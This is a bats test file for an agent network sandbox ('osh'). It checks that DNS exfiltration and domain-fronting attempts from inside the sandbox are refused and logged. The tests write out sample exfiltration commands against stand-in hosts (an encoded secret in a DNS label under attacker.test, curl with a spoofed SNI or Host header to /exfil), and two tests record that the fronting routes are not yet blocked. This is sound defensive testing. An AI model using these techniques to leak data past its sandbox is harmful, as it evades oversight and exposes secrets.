#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# THREATS.md 3 (DNS exfiltration) and 4 (an allowed name's address used under another name).
# Every port-53 packet of the sandbox goes to osh's DNS responder, whatever resolver it was
# addressed to: a name the policy does not allow gets REFUSED, an `osh: denied dns NAME` line,
# and never reaches any resolver (their query logs are checked). Technique 4 is not stopped
# today (osh enforces by address at L4; the L7 proxy is a later issue): counted skips.

bats_require_minimum_version 1.5.0

# The data an exfiltrating agent would encode: "secret-key" in base32 as the first label.
EXFIL=onswg4tfoqww2zlz.secret.attacker.test

setup_file() {
	load lib.bash
	attacks_setup_file || return
	[ -z "$SKIP_REASON" ] || return 0
	fakenet_add_host "$EXFIL" "$EVIL4" || return
	fakenet_add_host onswg4tfoqww2zlz.api.fakenet.test "$API4" || return
	# A resolver the agent picks itself, with the same names.
	_fakenet_addr_add "$DNS2" || return
	osht_spawn dnsmasq2 nsenter --net="/run/netns/$FAKENET_NET" -- dnsmasq --keep-in-foreground \
		--conf-file=/dev/null --no-resolv --no-hosts --addn-hosts="$FAKENET_DIR/hosts" \
		--address=/#/ --bind-interfaces --listen-address="$DNS2" --user=root --group=root \
		--pid-file="$FAKENET_DIR/dnsmasq2.pid" --log-queries \
		--log-facility="$FAKENET_DIR/dnsmasq2.log" || return
	osht_wait_for 10 as_agent "$AGENT" dns "$DNS2" api.fakenet.test >/dev/null
}

teardown_file() {
	load lib.bash
	attacks_teardown_file
}

setup() {
	load lib.bash
	attacks_setup
}

teardown() {
	attacks_teardown
}

# seen LOG NAME: how many queries for NAME the resolver writing LOG has logged.
seen() { grep -c "query\[[A-Z]*\] $2 from" "$FAKENET_DIR/$1" || true; }

# dns_case VARIANT SERVER [tcp]: the exfiltrating query reaches SERVER outside the sandbox and
# is answered; inside it is REFUSED (rcode 5), named in a denial line, and SERVER never sees it.
dns_case() {
	local server=$2 log=dnsmasq.log before
	[ "$server" = "$DNS2" ] && log=dnsmasq2.log
	before=$(seen "$log" "$EXFIL")
	outside_ok "answer $EVIL4" "$AGENT" dns "$server" "$EXFIL" ${3:+"$3"}
	[ "$(seen "$log" "$EXFIL")" -gt "$before" ]
	before=$(seen "$log" "$EXFIL")
	inside_denied "rcode 5" "$AGENT" dns "$server" "$EXFIL" ${3:+"$3"}
	ROW_IN="REFUSED"
	event "dns $EXFIL (type 1)*"
	[ "$(seen "$log" "$EXFIL")" -eq "$before" ] || {
		echo "the resolver saw the query from inside the sandbox"
		ROW_IN="REFUSED, but the resolver saw it"
		false
	}
}

@test "T3 DNS exfiltration through the configured resolver (UDP)" {
	attack 3 "configured resolver, UDP"
	dns_case x "$FAKENET_DNS4"
}

@test "T3 DNS exfiltration through the configured resolver over TCP" {
	attack 3 "configured resolver, TCP 53"
	dns_case x "$FAKENET_DNS4" tcp
}

@test "T3 DNS exfiltration through the configured resolver over IPv6" {
	attack 3 "configured resolver, IPv6 UDP"
	dns_case x "$FAKENET_DNS6"
}

@test "T3 DNS exfiltration through a resolver the agent picks (UDP)" {
	attack 3 "other resolver, UDP"
	dns_case x "$DNS2"
}

@test "T3 DNS exfiltration through a resolver the agent picks (TCP)" {
	attack 3 "other resolver, TCP 53"
	dns_case x "$DNS2" tcp
}

@test "T3 DNS exfiltration by the system resolver library (getaddrinfo)" {
	attack 3 "getaddrinfo (glibc), any binary"
	outside_ok reached /usr/bin/python3 -c "import socket; socket.getaddrinfo('$EXFIL', 8080); print('reached')"
	inside_denied "socket.gaierror: *" /usr/bin/python3 -c "import socket; socket.getaddrinfo('$EXFIL', 8080); print('reached')"
	event "dns $EXFIL (type *)*"
}

@test "T3 data in a label under the allowed name (exact names only)" {
	attack 3 "label under the allowed name"
	local name=onswg4tfoqww2zlz.api.fakenet.test before
	before=$(seen dnsmasq.log "$name")
	outside_ok "answer $API4" "$AGENT" dns "$FAKENET_DNS4" "$name"
	inside_denied "rcode 5" "$AGENT" dns "$FAKENET_DNS4" "$name"
	ROW_IN=REFUSED
	event "dns $name (type 1)*"
	[ "$(seen dnsmasq.log "$name")" -eq "$((before + 1))" ]
}

@test "T3 DNS-over-TLS to port 853" {
	attack 3 "DNS-over-TLS, TCP 853"
	outside_ok "received: q" "$AGENT" tcp "$EVIL4" 853 q
	inside_denied "connect: EPERM*" "$AGENT" tcp "$EVIL4" 853 q
	event "connect $EVIL4:853/tcp by $AGENT (pid *)*"
}

@test "T3 control: the allowed names still resolve, through any resolver" {
	attack 3 "control: allowed name via other resolver"
	run in_sandbox "$AGENT" dns "$DNS2" api.fakenet.test
	echo "$output"
	[ "$status" -eq 0 ]
	has_line "answer $API4"
	ROW_OUT=works ROW_IN=works ROW_EVENT="none (allowed)"
}

# ---- 4: the allowed name's address under another name --------------------------------------------

@test "T4 TLS SNI of another tenant on the API's shared address" {
	attack 4 "SNI of another name, shared CDN IP"
	local get="'$CURL' -sS --cacert '$CA' --resolve other-tenant.fakenet.test:443:$API4 https://other-tenant.fakenet.test/exfil"
	outside_ok "fakenet https $API4:443 /exfil" /bin/sh -c "$get"
	# The agent resolves its API first, as it would: that installs the shared address.
	run in_sandbox /bin/sh -c "'$AGENT' dns $FAKENET_DNS4 api.fakenet.test >/dev/null && $get"
	echo "$output"
	if [ "$status" -eq 0 ]; then ROW_IN="NOT STOPPED (reached)"; else ROW_IN="refused"; fi
	ROW_EVENT=none
	counted_skip "not stopped: needs the L7 proxy (later issue); osh enforces by address at L4, so an allowed name's address is reachable under any SNI"
}

@test "T4 HTTP Host header of another tenant (domain fronting)" {
	attack 4 "Host header of another name"
	local get="'$CURL' -sS --cacert '$CA' -H 'Host: other-tenant.fakenet.test' https://api.fakenet.test/front"
	outside_ok "fakenet https $API4:443 /front" /bin/sh -c "$get"
	run in_sandbox /bin/sh -c "$get"
	echo "$output"
	if [ "$status" -eq 0 ]; then ROW_IN="NOT STOPPED (reached)"; else ROW_IN="refused"; fi
	ROW_EVENT=none
	counted_skip "not stopped: needs the L7 proxy (later issue); the Host header is not inspected at L4"
}
